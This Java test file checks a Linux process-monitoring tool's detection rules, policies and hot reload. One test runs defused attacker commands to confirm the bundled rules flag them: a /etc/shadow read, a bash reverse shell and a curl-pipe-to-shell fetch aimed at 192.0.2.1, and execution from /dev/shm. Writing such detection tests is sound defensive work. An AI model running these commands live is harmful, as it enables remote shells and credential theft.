package nightjar.dist;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import nightjar.testkit.Actor;
import nightjar.testkit.KernelTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/// `nightjar watch` with rules, as whoever writes the rules meets it.
final class WatchRulesTest {
    private static final String TRUE = "/usr/bin/true";
    private static final int KILLED = 128 + 9; // as the JDK says it of a process

    private static final String NEEDLE = """
            title: A needle
            id: 6f1c3c86-11aa-4c3e-9a3e-000000000001
            name: needle
            level: high
            author: The test
            tags: [attack.credential-access, attack.t1003.008]
            logsource: {category: process_creation, product: linux}
            detection:
                selection: {Image|endswith: [/false, /true], CommandLine|contains: [needle, pin]}
                condition: selection
            """;

    private static final String PIN = NEEDLE.replace("000000000001", "000000000002")
            .replace("name: needle", "name: pin")
            .replace("A needle", "A pin")
            .replace("[needle, pin]", "a-pin");

    @TempDir
    Path directory;

    private Path rules;

    @BeforeEach
    void write() throws Exception {
        rules = Files.createDirectory(directory.resolve("rules"));
        Files.writeString(rules.resolve("needle.yml"), NEEDLE);
    }

    @KernelTest
    void ofWhatHappensOnlyMatchesAreShownWithTheirRules() throws Exception {
        try (var watch = matched().ready()) {
            Actor.run(TRUE, "hay");
            Actor.run(TRUE, "needle-in-hay");
            watch.untilOut("needle-in-hay");
            end(watch);

            assertThat(watch.events())
                    .extracting(event -> text(event, "/event/action"))
                    .containsExactly("load", "exec");
            JsonNode load = watch.events().getFirst();
            assertThat(text(load, "/event/reason")).isEqualTo("start");
            assertThat(load.at("/nightjar/rules/count").asInt()).isEqualTo(1);
            assertThat(load.at("/nightjar/rules/kernel").asInt()).isEqualTo(1);
            JsonNode alert = watch.events().getLast();
            assertThat(text(alert, "/event/kind")).isEqualTo("alert");
            assertThat(text(alert, "/rule/id/0")).endsWith("000000000001");
            assertThat(text(alert, "/rule/name/0")).isEqualTo("A needle");
            assertThat(text(alert, "/rule/author/0")).isEqualTo("The test");
            assertThat(text(alert, "/threat/technique/id/0")).isEqualTo("T1003");
            assertThat(text(alert, "/threat/technique/subtechnique/id/0")).isEqualTo("T1003.008");
            assertThat(text(alert, "/threat/tactic/id/0")).isEqualTo("TA0006");
            JsonNode match = alert.at("/nightjar/matches/0");
            assertThat(text(match, "/rule/level")).isEqualTo("high");
            assertThat(text(match, "/judged_in")).isEqualTo("kernel");
            assertThat(match.at("/matched"))
                    .extracting(each -> text(each, "/field") + " " + text(each, "/value"))
                    .containsExactly("process.executable /true", "process.command_line needle");
            assertThat(watch.err()).contains("1 rules: 1 judged in the kernel");
        }
    }

    @KernelTest
    void peopleAreShownTheRuleBelowTheEvent() throws Exception {
        try (var watch = start("--matched", "--format", "pretty").ready()) {
            Actor.run(TRUE, "needle-for-people");
            watch.untilOut("A needle");

            assertThat(watch.out().lines().toList())
                    .anySatisfy(line -> assertThat(line).contains("A needle").contains("high"));
        }
    }

    @KernelTest
    void aRuleThatCannotBeUsedIsToldAndTheOthersWork() throws Exception {
        Path broken = Files.writeString(
                rules.resolve("broken.yml"), PIN.replace("CommandLine|contains", "ComandLine|contains"));
        try (var watch = matched().ready()) {
            Actor.run(TRUE, "needle-beside-it");
            watch.untilOut("needle-beside-it");

            JsonNode refused = event(watch, "refuse").orElseThrow();
            assertThat(text(refused, "/nightjar/refused/file")).isEqualTo(broken.toString());
            assertThat(refused.at("/nightjar/refused/line").asInt()).isEqualTo(9);
            assertThat(text(refused, "/nightjar/refused/rule")).endsWith("000000000002");
            assertThat(text(refused, "/error/message")).contains("did you mean 'CommandLine'");
            assertThat(watch.err()).contains("1 refused").contains("refused: " + broken + ":9: ");
        }
    }

    @KernelTest
    void rulesThatAreNotThereAreSaid() throws Exception {
        try (var watch = Program.start(
                directory,
                "watch",
                "--matched",
                "--rules",
                directory.resolve("nowhere").toString(),
                "--duration",
                "1s")) {
            assertThat(watch.exitCode()).isEqualTo(2);
            assertThat(watch.err()).contains("there is no " + directory.resolve("nowhere"));
        }
    }

    @KernelTest
    void rulesThatChangeAreTakenWithinThreeSecondsAndBrokenOnesNot() throws Exception {
        try (var watch = matched().ready()) {
            Path file = Files.writeString(rules.resolve("pin.yml"), PIN);
            long began = System.nanoTime();
            untilLoaded(watch, 2);
            assertThat(TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - began))
                    .as("ms")
                    .isLessThan(6_000); // three seconds where the machine has nothing else to do
            Actor.run(TRUE, "a-pin-1");
            watch.untilOut("a-pin-1");
            assertThat(names(watch, "a-pin-1")).containsExactly("A needle", "A pin");

            Files.writeString(file, "title: [\n");
            watch.untilOut("\"action\":\"refuse\"");
            Actor.run(TRUE, "a-pin-2");
            watch.untilOut("a-pin-2");
            assertThat(names(watch, "a-pin-2")).containsExactly("A needle", "A pin");

            Files.writeString(file, PIN.replace("A pin", "Another pin"));
            untilLoaded(watch, 3);
            Actor.run(TRUE, "a-pin-3");
            watch.untilOut("a-pin-3");
            assertThat(names(watch, "a-pin-3")).containsExactlyInAnyOrder("A needle", "Another pin");
            assertThat(event(watch, "refuse"))
                    .hasValueSatisfying(refused ->
                            assertThat(text(refused, "/nightjar/refused/file")).isEqualTo(file.toString()));
            end(watch);
        }
    }

    @KernelTest
    void aPolicyKillsAndSaysSoAndOnlyWhereWeEnforce() throws Exception {
        Path policy = Files.writeString(directory.resolve("kill.yml"), """
                actions: [{rule: needle, action: kill}]
                spare: [{CommandLine|contains: spared}]
                """);
        try (var watch = start("--matched", "--policy", policy.toString()).ready()) {
            assertThat(exitCode("needle-1")).isZero();
            watch.untilOut("needle-1");
            assertThat(match(watch, "needle-1").at("/outcome").isMissingNode()).isTrue();
        }
        try (var watch = start("--matched", "--mode", "enforce", "--policy", policy.toString())
                .ready()) {
            assertThat(exitCode("needle-2")).isEqualTo(KILLED);
            assertThat(exitCode("needle-spared")).isZero();
            assertThat(exitCode("hay")).isZero();
            watch.untilOut("needle-spared");
            assertThat(text(match(watch, "needle-2"), "/outcome")).isEqualTo("killed");
            assertThat(text(match(watch, "needle-2"), "/action")).isEqualTo("kill");
            assertThat(text(match(watch, "needle-spared"), "/outcome")).isEqualTo("spared");
            assertThat(watch.err()).contains("enforcing");
            end(watch);
        }
        assertThat(exitCode("needle-3")).as("nobody watches any more").isZero();
    }

    @KernelTest
    void blockIsRefusedAtStart() throws Exception {
        Path policy = Files.writeString(directory.resolve("block.yml"), "actions: [{level: high, action: block}]\n");
        try (var watch = start("--mode", "enforce", "--policy", policy.toString())) {
            assertThat(watch.exitCode()).isEqualTo(2);
            assertThat(watch.err()).contains("'block'").contains("needle.yml:1");
        }
    }

    @KernelTest
    void anExceptionSilencesARule() throws Exception {
        Files.writeString(rules.resolve("exceptions.yml"), """
                title: Ours
                logsource: {category: process_creation}
                filter:
                    rules: [needle]
                    ours: {CommandLine|contains: our-own}
                    condition: not ours
                """);
        try (var watch = matched().ready()) {
            Actor.run(TRUE, "our-own-needle");
            Actor.run(TRUE, "needle-of-others");
            watch.untilOut("needle-of-others");
            assertThat(watch.out()).doesNotContain("our-own-needle");
        }
    }

    @KernelTest
    void severalMatchesBecomeAnEventOfTheirOwn() throws Exception {
        Files.writeString(rules.resolve("many.yml"), """
                title: Many needles
                id: 6f1c3c86-11aa-4c3e-9a3e-000000000003
                level: critical
                correlation:
                    type: value_count
                    rules: [needle]
                    group-by: [user.name]
                    timespan: 1m
                    condition: {field: process.command_line, gte: 3}
                """);
        try (var watch = matched().ready()) {
            for (String word : List.of("needle-1", "needle-1", "needle-2", "needle-3")) {
                Actor.run(TRUE, word);
            }
            watch.untilOut("\"action\":\"correlated\"");
            end(watch);

            JsonNode correlated = event(watch, "correlated").orElseThrow();
            assertThat(text(correlated, "/event/kind")).isEqualTo("alert");
            assertThat(text(correlated, "/rule/name/0")).isEqualTo("Many needles");
            assertThat(watch.events().indexOf(correlated))
                    .as("it comes behind the event that made it hold")
                    .isGreaterThan(watch.events().indexOf(matchedExec(watch, "needle-3")));
        }
    }

    @KernelTest
    void noneMeansNoRules() throws Exception {
        try (var watch = Program.start(directory, "watch", "--rules", "none").ready()) {
            Actor.run(TRUE, "needle-for-nobody");
            watch.untilOut("needle-for-nobody");
            assertThat(watch.out()).doesNotContain("\"kind\":\"alert\"").doesNotContain("\"action\":\"load\"");
        }
    }

    @Test
    void matchesWithoutRulesAreWrongUsage() throws Exception {
        try (var watch = Program.start(directory, "watch", "--rules", "none", "--matched")) {
            assertThat(watch.exitCode()).isEqualTo(2);
            assertThat(watch.err()).contains("--rules");
        }
    }

    @KernelTest
    void theRulesThatComeWithNightjarNameWhatAttackersDo() throws Exception {
        List<String> actions = List.of(
                "head -c 0 /etc/shadow",
                "bash -c 'true || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
                "bash -c 'true || curl -s http://192.0.2.1/x | sh'",
                "find / -maxdepth 0 -perm -4000",
                "cp /usr/bin/true /dev/shm/nightjar-test && /dev/shm/nightjar-test; rm -f /dev/shm/nightjar-test");
        try (var watch = Program.start(directory, "watch", "--matched").ready()) {
            for (String action : actions) {
                new ProcessBuilder("sh", "-c", action + "; :")
                        .redirectErrorStream(true)
                        .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                        .start()
                        .waitFor();
            }
            watch.untilOut("/dev/shm/nightjar-test\"");
            end(watch);
            List<String> found = watch.events().stream()
                    .filter(event -> text(event, "/event/kind").equals("alert"))
                    .flatMap(event -> event.at("/rule/name").valueStream().map(JsonNode::asString))
                    .distinct()
                    .toList();
            assertThat(found)
                    .contains("A tool reads the password hashes")
                    .anySatisfy(name -> assertThat(name).containsIgnoringCase("shared memory"))
                    .hasSizeGreaterThan(actions.size());
            JsonNode load = event(watch, "load").orElseThrow();
            assertThat(load.at("/nightjar/rules/count").asInt()).isGreaterThanOrEqualTo(60);
            assertThat(load.at("/nightjar/rules/refused").asInt()).isZero();
        }
    }

    /// Whoever reads rules has no rights, and what becomes of it does no harm.
    @KernelTest
    void theCompilerHasNoPrivilegesAndItsDeathKeepsTheRules() throws Exception {
        try (var watch = matched().ready()) {
            Files.writeString(rules.resolve("many.yml"), manyRules()); // so that compiling takes a while
            boolean seen = false;
            boolean ended = false;
            for (long until = System.nanoTime() + TimeUnit.SECONDS.toNanos(20); !ended && System.nanoTime() < until; ) {
                for (ProcessHandle compiler : compilers(watch)) {
                    if (isWithoutPrivileges(compiler)) {
                        seen = true;
                        ended = compiler.destroyForcibly();
                    }
                }
            }
            assertThat(seen).as("the compiler was seen without privileges").isTrue();
            watch.untilOut("\"action\":\"refuse\"");
            Actor.run(TRUE, "needle-after-that");
            watch.untilOut("needle-after-that");

            Files.writeString(rules.resolve("pin.yml"), PIN);
            Files.delete(rules.resolve("many.yml"));
            untilLoaded(watch, 2);
        }
    }

    private static String manyRules() {
        var text = new StringBuilder();
        for (int i = 0; i < 1_500; i++) {
            text.append("""
                    ---
                    title: Rule %d
                    id: 6f1c3c86-11aa-4c3e-9a3e-1%011d
                    logsource: {category: process_creation, product: linux}
                    detection:
                        s: {CommandLine|re: 'never%dseen[a-z]{3,9}x(y|z)+', Image|endswith: /nothing%d}
                        condition: s
                    """.formatted(i, i, i, i));
        }
        return text.toString();
    }

    private static List<ProcessHandle> compilers(Program watch) {
        return ProcessHandle.of(watch.pid()).stream()
                .flatMap(ProcessHandle::descendants)
                .filter(each -> command(each).contains("nightjar.rules/"))
                .toList();
    }

    private static String command(ProcessHandle process) {
        try {
            return Files.readString(Path.of("/proc/" + process.pid() + "/cmdline"));
        } catch (IOException _) {
            return ""; // it ended
        }
    }

    private static boolean isWithoutPrivileges(ProcessHandle process) {
        try (Stream<Path> threads = Files.list(Path.of("/proc/" + process.pid() + "/task"))) {
            List<String> status = new ArrayList<>();
            for (Path thread : threads.toList()) {
                status.addAll(Files.readAllLines(thread.resolve("status")));
            }
            return status.stream().anyMatch(line -> line.equals("CapEff:\t0000000000000000"))
                    && status.stream()
                            .filter(line -> line.startsWith("Uid:"))
                            .allMatch(line -> line.equals("Uid:\t65534\t65534\t65534\t65534"))
                    && status.stream()
                            .filter(line -> line.startsWith("Cap"))
                            .filter(line -> !line.startsWith("CapBnd"))
                            .allMatch(line -> line.endsWith("\t0000000000000000"));
        } catch (IOException _) {
            return false; // it ended, or a thread of it
        }
    }

    private Program matched() throws IOException {
        return start("--matched");
    }

    private Program start(String... options) throws IOException {
        List<String> arguments = new ArrayList<>(List.of("watch", "--rules", rules.toString()));
        arguments.addAll(List.of(options));
        return Program.start(directory, arguments.toArray(String[]::new));
    }

    private static void end(Program watch) throws Exception {
        watch.signal("TERM");
        assertThat(watch.exitCode()).as(watch.err()).isZero();
    }

    private static int exitCode(String word) throws Exception {
        return new ProcessBuilder(TRUE, word).start().waitFor();
    }

    private static void untilLoaded(Program watch, int times) throws Exception {
        watch.untilOut("\"generation\":" + times);
    }

    private static Optional<JsonNode> event(Program watch, String action) throws IOException {
        return watch.events().stream()
                .filter(event -> text(event, "/event/action").equals(action))
                .findFirst();
    }

    private static JsonNode matchedExec(Program watch, String word) throws IOException {
        return watch.events().stream()
                .filter(event -> text(event, "/event/action").equals("exec"))
                .filter(event -> text(event, "/process/args/1").equals(word))
                .findFirst()
                .orElseThrow();
    }

    private static JsonNode match(Program watch, String word) throws IOException {
        return matchedExec(watch, word).at("/nightjar/matches/0");
    }

    private static List<String> names(Program watch, String word) throws IOException {
        return matchedExec(watch, word)
                .at("/rule/name")
                .valueStream()
                .map(JsonNode::asString)
                .sorted()
                .toList();
    }

    private static String text(JsonNode node, String pointer) {
        return node.at(pointer).asString("");
    }
}
